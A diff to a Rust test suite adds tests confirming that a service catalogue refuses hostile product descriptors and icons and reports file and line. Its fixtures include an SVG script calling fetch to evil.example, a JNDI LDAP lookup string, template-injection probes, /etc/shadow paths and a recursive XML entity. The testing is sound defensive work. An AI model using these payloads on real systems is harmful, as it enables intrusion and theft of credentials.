@@ -31,7 +31,7 @@ fn an_addition_with_a_problem_is_refused_with_its_place() {
     for (name, text, icon, told) in [
         ("grr", descriptor(), ICON, "already has this name"),
         ("Grand", descriptor(), ICON, "named by 1 to 64"),
-        ("a", descriptor(), "<svg><script/></svg>", "icon.svg: <script>"),
+        ("a", descriptor(), "<svg><script/></svg>", "icon.svg:1: <script>"),
         ("a", descriptor().replace("urls = [\"{url}/\"]", "urls = []"), ICON, "service.toml:2 urls: at least one"),
         (
             "a",
@@ -89,4 +89,95 @@ fn a_broken_product_of_the_site_leaves_the_others_and_every_change_is_seen() {
     let before = product_signature(dir.path());
     add("ours", &format!("{text}# changed\n"));
     assert_ne!(before, product_signature(dir.path()), "inside a folder as well");
+}
+
+/// What a stranger might send as a product: each is refused with file and line, beside the same folder that is taken.
+#[test]
+fn hostile_products_are_refused_with_the_line() {
+    let with = |from: &str, to: &str| {
+        assert!(descriptor().contains(from), "{from}");
+        descriptor().replace(from, to)
+    };
+    let parameter = |name: &str, default: &str| {
+        format!("{}\n[parameters.{name}]\nfr = \"x\"\nen = \"x\"\ndefault = \"{default}\"\n", descriptor())
+    };
+    let lines = descriptor().lines().count();
+    let script = ICON.replace("<path", "\n\n<script>fetch('//evil.example')</script><path");
+    let entity = format!("<!DOCTYPE svg [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>\n{ICON}");
+    for (text, icon, told) in [
+        // A key nobody knows, and one that is there twice.
+        (with("category =", "on_load = \"x\"\ncategory ="), ICON, "service.toml:3 on_load: unknown field".to_owned()),
+        (with("category =", "home = \"x\"\ncategory ="), ICON, "service.toml:3".to_owned()),
+        // A value that names itself, or another that names it: no value is ever read again.
+        (parameter("loop", "{loop}"), ICON, format!("service.toml:{} parameters.loop", lines + 5)),
+        (parameter("a", "{url}"), ICON, "a value holds no brace".to_owned()),
+        // Names of ours, and expressions of other engines, where an address goes.
+        (
+            with("home = \"{url}/\"", "home = \"{url}/{preau}\""),
+            ICON,
+            "service.toml:1 home: `{url}/{preau}` names".to_owned(),
+        ),
+        (
+            with("home = \"{url}/\"", "home = \"{url}/{{7*7}}\""),
+            ICON,
+            "service.toml:1 home: an address holds".to_owned(),
+        ),
+        (
+            with("urls = [\"{url}/\"]", "urls = [\"{url}/${jndi:ldap://evil.example}\"]"),
+            ICON,
+            "service.toml:2 urls: an address holds".to_owned(),
+        ),
+        (
+            with("copy = \"mail\"", "copy = \"mail\"\nscope = \"{secret}\""),
+            ICON,
+            "`{secret}` names a parameter".to_owned(),
+        ),
+        // A secret or a file of this machine, named by a product.
+        (
+            format!("{}\n[oidc]\nclient_secret_file = \"/etc/shadow\"\n", descriptor()),
+            ICON,
+            "secrets and keys belong".to_owned(),
+        ),
+        (format!("{}\n[saml]\nmetadata = \"/etc/shadow\"\n", descriptor()), ICON, "files belong".to_owned()),
+        // A block where nobody can write one.
+        (
+            format!("{}\n[oidc]\n", with("name = \"user_nom_ldap\"", "name = \"a/b\"")),
+            ICON,
+            "a block (`block/name`)".to_owned(),
+        ),
+        // Too large, too deep.
+        ("#".repeat(10 * 1024 * 1024), ICON, "service.toml: larger than 64 KiB".to_owned()),
+        (format!("x = {}", "[".repeat(30_000)), ICON, "service.toml:1".to_owned()),
+        (descriptor(), &" ".repeat(10 * 1024 * 1024), "icon.svg: larger than 16 KiB".to_owned()),
+        // A drawing that runs, or that is never done being read.
+        (descriptor(), &script, "icon.svg:3: <script> does not belong here".to_owned()),
+        (descriptor(), &entity, "icon.svg:1: declarations".to_owned()),
+    ] {
+        let dir = tempfile::tempdir().unwrap();
+        folder(dir.path(), "a", &text, icon);
+        let problems = catalogue().load_extra(dir.path()).unwrap_err();
+        let all: Vec<String> = problems.iter().map(ToString::to_string).collect();
+        assert!(all.iter().any(|problem| problem.contains(&told)), "{told}\n{all:?}");
+        assert!(all.iter().all(|problem| problem.len() < 2000), "what is told is short: {told}");
+        let (sound, _) = catalogue().load_extra_sound(dir.path());
+        assert!(sound.product("a").is_none() && sound.product("grr").is_some(), "{told}");
+    }
+    let dir = tempfile::tempdir().unwrap();
+    folder(dir.path(), "a", &parameter("room", "500 MB"), ICON);
+    let control = catalogue().load_extra(dir.path()).unwrap();
+    assert!(control.product("a").is_some(), "control");
+}
+
+/// What an installation gives is a value and never a template, in whatever it is written.
+#[test]
+fn a_value_is_never_read_as_a_template() {
+    let text = |value: &str| {
+        format!("connector = \"sacoche\"\n[parameters]\nurl = \"https://s.example\"\nbase = \"{value}\"\n")
+    };
+    for bad in ["{url}", "{preau}", "{{7*7}}", "${x}", "a\\nb", "a\\u0000b", ""] {
+        let problems = crate::mount("f.toml", "f", &text(bad), catalogue()).unwrap_err();
+        assert!(problems[0].at.starts_with("f.toml:4 parameters.base"), "{bad}: {problems:?}");
+    }
+    let service = crate::mount("f.toml", "f", &text("%7Burl%7D"), catalogue()).unwrap().unwrap();
+    assert_eq!(service.service.home.as_str(), "https://s.example/?sso=%7Burl%7D", "control");
 }
